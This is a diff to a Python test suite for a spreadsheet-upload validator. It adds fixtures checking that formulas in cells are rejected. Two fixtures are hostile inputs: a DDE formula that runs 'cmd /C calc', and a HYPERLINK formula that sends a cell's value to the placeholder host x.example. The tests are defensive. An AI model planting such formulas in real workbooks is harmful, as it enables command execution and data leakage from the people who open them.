@@ -75,6 +75,18 @@ def error_value_at(ref: str, error: str = "#DIV/0!"):
     return make
 
 
+def cell_xml_at(ref: str, body: str, attrs: str = ""):
+    """A good fill with the cell `ref` of 指标填报 rewritten as <c r=ref attrs>body</c>: a formula
+    with its cached result, as Excel and WPS save it (openpyxl writes none)."""
+
+    def make(template: bytes) -> bytes:
+        pattern = re.compile(rf'<c r="{ref}"[^>]*?(/>|>.*?</c>)', re.S)
+        cell = f'<c r="{ref}" {attrs}>{body}</c>'
+        return patch_sheet_xml(fill(template), IND, lambda xml: pattern.sub(lambda m: cell, xml))
+
+    return make
+
+
 def f(indicators=None, tasks=None, **kwargs) -> Callable[[bytes], bytes]:
     return lambda template: fill(template, indicators, tasks, **kwargs)
 
@@ -263,6 +275,26 @@ CASES = [
         [("formula-without-value", IND, "N4")],
     ),
     Case("excel-error-value", error_value_at("N5"), [("excel-error-value", IND, "N5")]),
+    Case(
+        "formula-with-cached-value",
+        cell_xml_at("N4", "<f>1000+50</f><v>1050</v>"),
+        [("formula-not-allowed", IND, "N4")],
+    ),
+    Case(
+        "dde-formula-with-cached-value",
+        cell_xml_at("O4", "<f>cmd|' /C calc'!A0</f><v>0</v>", 't="str"'),
+        [("formula-not-allowed", IND, "O4")],
+    ),
+    Case(
+        "hyperlink-formula",
+        cell_xml_at("O5", '<f>HYPERLINK("http://x.example/?v="&amp;N5,"来源")</f><v>来源</v>', 't="str"'),
+        [("formula-not-allowed", IND, "O5")],
+    ),
+    Case(
+        "formula-beside-the-table",
+        f(cells={(IND, "Q2"): "=SUM(N4:N8)"}),
+        [("formula-not-allowed", IND, "Q2")],
+    ),
     # ---- stage 3: rows (Pandera)
     Case("percent-over-100", f(tasks={"T-1.1": {"percent": 120}}), [("value-above-max", TSK, "H4")]),
     Case("percent-negative", f(tasks={"T-1.1": {"percent": -5}}), [("value-below-min", TSK, "H4")]),
